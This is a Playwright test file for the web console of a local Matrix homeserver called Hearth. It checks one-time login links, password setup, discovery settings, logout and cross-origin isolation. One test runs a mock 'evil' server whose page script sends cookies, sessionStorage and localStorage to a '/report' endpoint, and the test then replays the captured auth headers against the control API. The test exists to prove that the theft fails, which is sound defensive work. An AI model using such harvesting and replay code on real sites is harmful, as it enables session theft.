// The web console at /_hearth/, in a real headless Chromium (the Debian
// chromium package, driven by playwright-core): the CLI's one-time link
// logs the browser in, the page shows the daemon's state and how to connect
// a client, and a screenshot is kept in artifacts/console.png; the
// first-run welcome sets the owner's first password (console-welcome.png). A console
// session is a header the page's own script sends, never a cookie, so
// another local user's server on 127.0.0.1 gets nothing it can replay.

import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import http from "node:http";
import https from "node:https";
import { chmod, mkdir, mkdtemp, readFile, rm, stat, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { chromium } from "playwright-core";
import { HEARTH_BIN, Hearth, SERVER_NAME, freePort, sleep } from "./hearth.mjs";

const CHROMIUM = process.env.CHROMIUM_BIN ?? "/usr/bin/chromium";
const artifacts = path.join(path.dirname(fileURLToPath(import.meta.url)), "artifacts");
const run = promisify(execFile);

let hearth, dataDir, browser;

before(async () => {
    dataDir = await mkdtemp(path.join(os.tmpdir(), "hearth-console-"));
    // LAN discovery starts off; when the console switches it on, it runs
    // on loopback only (which is not multicast-capable: it sends nothing),
    // never on this machine's networks.
    hearth = new Hearth(dataDir, await freePort(), { extraArgs: ["--lan-interfaces", "lo"] });
    await hearth.start();
    // The flags this sandboxed, offline machine needs (see the env notes).
    browser = await chromium.launch({
        executablePath: CHROMIUM,
        args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--no-first-run", "--disable-sync", "--disable-quic"],
    });
});

after(async () => {
    await browser?.close();
    await hearth?.stop();
    if (dataDir) await rm(dataDir, { recursive: true, force: true });
});

/** A fresh one-time console link from the CLI, as a person would get it. */
async function consoleLink() {
    const { stdout } = await run(HEARTH_BIN, ["open", "--print", "--data-dir", dataDir,
        "--client-listen", `127.0.0.1:${hearth.port}`, "--key-store", "file"]);
    return stdout.trim();
}

test("the one-time link opens the console, which shows the server and how to connect", async () => {
    const page = await browser.newPage({ viewport: { width: 1100, height: 800 } });
    const link = await consoleLink();
    await page.goto(link);
    await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
    assert.equal(new URL(page.url()).pathname, "/_hearth/");
    assert.match(await page.textContent("#server"), new RegExp(SERVER_NAME));
    assert.equal(await page.textContent("#homeserver"), hearth.baseUrl);
    assert.match(await page.textContent("#accounts"), new RegExp(`@[a-z0-9._=/+-]+:${SERVER_NAME}`));
    assert.match(await page.textContent("#log-lines"), /hearth is ready/);
    assert.match(await page.textContent("#federation-state"), /^Off: /);
    assert.match(await page.textContent("#peers"), /No other Hearth on this network|LAN discovery is off/);
    const qrWidth = await page.$eval("img.qr", (img) => img.naturalWidth);
    assert.ok(qrWidth > 0, "the QR code image did not load");
    await mkdir(artifacts, { recursive: true });
    await page.screenshot({ path: path.join(artifacts, "console.png"), fullPage: true });

    // The code left the address bar once redeemed, and no cookie was set.
    assert.equal(new URL(page.url()).hash, "");
    assert.deepEqual(await page.context().cookies(), []);

    // The link worked once; a second browser gets nowhere with it.
    const other = await browser.newContext();
    const stranger = await other.newPage();
    await stranger.goto(link);
    await stranger.waitForSelector("body[data-error]", { timeout: 10_000 });
    assert.match(await stranger.textContent("#signed-out"), /used or expired/);
    assert.equal(await stranger.isVisible("main"), false);
    await other.close();
});

test("the first-run welcome shows the homeserver and user ID, and sets the password a client then logs in with", async () => {
    // The tray at login opens the console on its welcome (#welcome), as
    // here; the owner's password is still the one the banner showed, which
    // an installer-started daemon shows nobody.
    const page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
    await page.goto((await consoleLink()) + "#welcome");
    await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
    assert.equal(await page.isVisible("#welcome"), true);
    assert.equal(await page.textContent("#welcome-homeserver"), hearth.baseUrl);
    const userId = await page.textContent("#welcome-user");
    assert.match(userId, new RegExp(`^@[a-z0-9._=/+-]+:${SERVER_NAME}$`));
    assert.ok((await page.$eval("#welcome img.qr", (img) => img.naturalWidth)) > 0, "the welcome's QR code did not load");
    // No chat_client_url configured: Element's web app, which cannot be
    // handed the homeserver, so the page says what to enter there.
    assert.equal(await page.getAttribute("#welcome a.open-element", "href"), "https://app.element.io/#/login");
    assert.ok((await page.textContent("#welcome .element-hint")).includes(hearth.baseUrl));

    const submit = async (a, b) => {
        await page.fill("#password-1", a);
        await page.fill("#password-2", b);
        await page.click('#password-form button[type="submit"]');
    };
    await submit("one password here", "another one here");
    await page.waitForSelector("#password-error:not([hidden])", { timeout: 10_000 });
    assert.match(await page.textContent("#password-error"), /differ/);
    await submit("short", "short");
    await page.waitForFunction(() => /at least 8/.test(document.getElementById("password-error").textContent), null, { timeout: 10_000 });
    await mkdir(artifacts, { recursive: true });
    await page.screenshot({ path: path.join(artifacts, "console-welcome.png"), fullPage: true });

    const chosen = "chosen in the console";
    await submit(chosen, chosen);
    await page.waitForSelector("body[data-password-set=true]", { timeout: 10_000 });
    assert.equal(await page.isVisible("#password-form"), false);
    assert.match(await page.textContent("#password-done"), /Your password is set/);

    // A Matrix client logs in with it; the banner's password no longer works.
    const login = (password) => fetch(hearth.baseUrl + "/_matrix/client/v3/login", {
        method: "POST", headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ type: "m.login.password", identifier: { type: "m.id.user", user: userId }, password }),
    });
    const ok = await login(chosen);
    assert.equal(ok.status, 200);
    assert.ok((await ok.json()).access_token);
    const banner = (await readFile(hearth.logPath, "utf8")).match(/^\s*password\s+(\S+)$/m);
    assert.ok(banner, "the first start's banner is in the daemon's output");
    assert.equal((await login(banner[1])).status, 403);

    // The one write was made: the session (and any other) may not make it again.
    const token = await page.evaluate(() => sessionStorage.getItem("hearth_session"));
    const again = await fetch(hearth.baseUrl + "/_hearth/v1/welcome/password", {
        method: "POST", headers: { "X-Hearth-Session": token, "Content-Type": "application/json" },
        body: JSON.stringify({ password: "taken over later" }),
    });
    assert.equal(again.status, 403);
    assert.equal((await login(chosen)).status, 200);
    await page.close();

    // A console opened later shows no welcome.
    const later = await browser.newPage();
    await later.goto(await consoleLink());
    await later.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
    assert.equal(await later.isVisible("#welcome"), false);
    await later.close();
});

test("Element's web app on a public https origin reaches the loopback homeserver once the browser's local network permission is granted", async () => {
    // The welcome's "Open Element" leads to https://app.element.io, which
    // then calls http://127.0.0.1:<port>. Not mixed content (loopback is a
    // potentially trustworthy origin), but Chromium's Local Network Access
    // asks the person first. Stand-in: an https page on 127.0.0.1 that this
    // browser is told is on the public internet.
    const dir = await mkdtemp(path.join(os.tmpdir(), "hearth-lna-"));
    await run("openssl", ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
        "-keyout", path.join(dir, "key.pem"), "-out", path.join(dir, "cert.pem"), "-days", "1", "-subj", "/CN=element.test"]);
    const site = https.createServer({ key: await readFile(path.join(dir, "key.pem")), cert: await readFile(path.join(dir, "cert.pem")) },
        (req, res) => { res.writeHead(200, { "Content-Type": "text/html" }); res.end("<body>a Matrix client</body>"); });
    const sitePort = await freePort();
    await new Promise((r) => site.listen(sitePort, "127.0.0.1", r));
    const publicBrowser = await chromium.launch({
        executablePath: CHROMIUM,
        args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--no-first-run", "--disable-sync", "--disable-quic", `--ip-address-space-overrides=127.0.0.1:${sitePort}=public`],
    });
    // What the client does first: read the versions, then try a password
    // login (a JSON POST: a CORS preflight first).
    const asClient = (base) => Promise.all([
        fetch(base + "/_matrix/client/versions").then((r) => r.status, (e) => "refused: " + e.message),
        fetch(base + "/_matrix/client/v3/login", { method: "POST", headers: { "Content-Type": "application/json" },
            body: JSON.stringify({ type: "m.login.password", identifier: { type: "m.id.user", user: "nobody" }, password: "wrong password" }) })
            .then((r) => r.status, (e) => "refused: " + e.message),
    ]);
    try {
        for (const [granted, want] of [[false, ["refused: Failed to fetch", "refused: Failed to fetch"]], [true, [200, 403]]]) {
            const context = await publicBrowser.newContext({ ignoreHTTPSErrors: true });
            if (granted) await context.grantPermissions(["local-network-access"]);
            const page = await context.newPage();
            await page.goto(`https://127.0.0.1:${sitePort}/`);
            assert.deepEqual(await page.evaluate(asClient, hearth.baseUrl), want, granted ? "permission granted" : "no permission");
            await context.close();
        }
    } finally {
        await publicBrowser.close();
        site.close();
        await rm(dir, { recursive: true, force: true });
    }
});

test("the accounts section switches who people nearby can find", async () => {
    const page = await browser.newPage();
    await page.goto(await consoleLink());
    await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
    // The owner made at first start is found by people nearby by default.
    const owner = (await page.textContent("#accounts li")).split(" ")[0];
    assert.match(await page.textContent("#accounts li"), /found by people nearby/);
    await page.click(`#accounts button[data-nearby="${owner}"]`);
    await page.waitForFunction((o) => [...document.querySelectorAll("#accounts li")]
        .some((li) => li.textContent.startsWith(o + " · hidden from people nearby")), owner, { timeout: 10_000 });
    const { stdout } = await run(HEARTH_BIN, ["account", "nearby", owner.slice(1).split(":")[0], "on", "--data-dir", dataDir,
        "--client-listen", `127.0.0.1:${hearth.port}`, "--key-store", "file"]);
    assert.match(stdout, /can be found by people on this network/);
    await page.close();
});

test("the federation section switches LAN discovery, as the CLI then reports", async () => {
    const page = await browser.newPage();
    await page.goto(await consoleLink());
    await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
    const peersMode = async () => (await run(HEARTH_BIN, ["peers", "mode", "--data-dir", dataDir,
        "--client-listen", `127.0.0.1:${hearth.port}`, "--key-store", "file"])).stdout;
    // The daemon was started with discovery off, and the page says so.
    assert.match(await page.textContent("#discovery-mode"), /^LAN discovery: off/);
    assert.equal(await page.isDisabled('#discovery-buttons button[data-discovery="off"]'), true);
    for (const [mode, words] of [["browse", /^LAN discovery browse: /], ["on", /^LAN discovery on: /], ["off", /^LAN discovery off: /]]) {
        await page.click(`#discovery-buttons button[data-discovery="${mode}"]`);
        await page.waitForSelector(`#discovery-mode[data-mode="${mode}"]`, { timeout: 10_000 });
        assert.equal(await page.isVisible("#discovery-error"), false);
        assert.equal(await page.isDisabled(`#discovery-buttons button[data-discovery="${mode}"]`), true);
        // The control API (through the CLI, with the owner's secret) sees
        // the mode the page chose.
        assert.match(await peersMode(), words);
    }
    await page.close();
});

test("logging out ends the session, for this page and for anyone holding its token", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(await consoleLink());
    await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
    const token = await page.evaluate(() => sessionStorage.getItem("hearth_session"));
    const asSession = () => fetch(hearth.baseUrl + "/_hearth/v1/status", { headers: { "X-Hearth-Session": token } });
    assert.equal((await asSession()).status, 200);
    await page.click("#logout");
    await page.waitForSelector("body[data-logged-out=true]", { timeout: 10_000 });
    assert.equal((await asSession()).status, 401);
    await page.reload();
    await page.waitForSelector("body[data-error]", { timeout: 10_000 });
    assert.equal(await page.isVisible("#signed-out"), true);
    await context.close();
});

test("a page from another origin cannot read the control API", async () => {
    const page = await browser.newPage();
    await page.goto(await consoleLink()); // this browser is logged in...
    await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
    // ...yet a page served from elsewhere gets no answer it can read.
    await page.goto("data:text/html,<title>elsewhere</title>");
    const outcome = await page.evaluate(async (base) => {
        try {
            const r = await fetch(base + "/_hearth/v1/status", { credentials: "include" });
            return "read " + r.status;
        } catch (e) {
            return "refused";
        }
    }, hearth.baseUrl);
    assert.equal(outcome, "refused");
});

test("a page on another port of 127.0.0.1 gets nothing that opens the control API", async () => {
    // The owner's browser is logged in to the console...
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(await consoleLink());
    await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });

    // ...and then visits a page another local user serves on another port
    // of 127.0.0.1. Cookies ignore ports, so whatever the browser sends to
    // it is recorded, as an attacker's server would.
    const seen = [];
    const evil = http.createServer((req, res) => {
        seen.push(req.headers);
        if (req.url === "/") {
            res.writeHead(200, { "Content-Type": "text/html" });
            // Same-origin requests to its own server, on the paths a console
            // cookie would be scoped to; the page also reads its own storage.
            res.end(`<script>
                Promise.all(["/_hearth/", "/_hearth/v1/status", "/_hearth/v1/open"].map(p => fetch(p, { credentials: "include" })))
                  .then(() => fetch("/report", { method: "POST", body: JSON.stringify({ cookie: document.cookie,
                      session: Object.entries(sessionStorage), local: Object.entries(localStorage) }) }))
                  .then(() => { document.body.dataset.done = "true"; });
            </script><body>hello</body>`);
            return;
        }
        let body = "";
        req.on("data", (c) => { body += c; });
        req.on("end", () => {
            if (req.url === "/report") seen.push({ reported: body });
            res.writeHead(404);
            res.end();
        });
    });
    const evilPort = await freePort();
    await new Promise((r) => evil.listen(evilPort, "127.0.0.1", r));
    try {
        await page.goto(`http://127.0.0.1:${evilPort}/`);
        await page.waitForSelector("body[data-done=true]", { timeout: 10_000 });

        // Replay every header the attacker saw against Hearth's control API,
        // as the attacker's server (no Origin: not a browser request).
        const stolen = {};
        for (const h of seen) {
            for (const name of ["cookie", "authorization", "x-hearth-session"]) {
                if (h[name]) stolen[name] = h[name];
            }
        }
        for (const [method, p, body] of [["GET", "/_hearth/v1/status"], ["POST", "/_hearth/v1/open", "{}"],
            ["POST", "/_hearth/v1/console", "{}"]]) {
            const r = await fetch(hearth.baseUrl + p, { method, headers: stolen, body });
            assert.equal(r.status, 401, `${method} ${p} with ${JSON.stringify(stolen)}: HTTP ${r.status}`);
        }
        const report = JSON.parse(seen.find((h) => h.reported).reported);
        assert.deepEqual(report, { cookie: "", session: [], local: [] });
    } finally {
        evil.close();
        await context.close();
    }
});

test("'hearth open' hands the browser a private launch page, which leads to the console signed in", async () => {
    // A stand-in xdg-open that only records what it was given.
    const spyDir = await mkdtemp(path.join(os.tmpdir(), "hearth-spy-"));
    const runtimeDir = await mkdtemp(path.join(os.tmpdir(), "hearth-runtime-"));
    try {
        await writeFile(path.join(spyDir, "xdg-open"), `#!/bin/sh\nprintf '%s\\n' "$@" > ${spyDir}/argv\n`);
        await chmod(path.join(spyDir, "xdg-open"), 0o755);
        const { stdout } = await run(HEARTH_BIN, ["open", "--data-dir", dataDir,
            "--client-listen", `127.0.0.1:${hearth.port}`, "--key-store", "file"],
        { env: { ...process.env, PATH: `${spyDir}:${process.env.PATH}`, XDG_RUNTIME_DIR: runtimeDir } });
        assert.doesNotMatch(stdout, /code=/);
        let argv;
        for (let i = 0; i < 200 && argv === undefined; i++) {
            argv = await readFile(path.join(spyDir, "argv"), "utf8").catch(() => undefined);
            if (argv === undefined) await sleep(25);
        }
        assert.match(argv, /^file:\/\/\/.*\.html\n$/);
        assert.doesNotMatch(argv, /code=/);
        const launch = new URL(argv.trim());
        assert.equal((await stat(launch.pathname)).mode & 0o777, 0o600);

        const context = await browser.newContext();
        const page = await context.newPage();
        await page.goto(launch.href);
        await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
        assert.equal(new URL(page.url()).origin, hearth.baseUrl);
        assert.match(await page.textContent("#server"), new RegExp(SERVER_NAME));
        await context.close();
    } finally {
        await rm(spyDir, { recursive: true, force: true });
        await rm(runtimeDir, { recursive: true, force: true });
    }
});
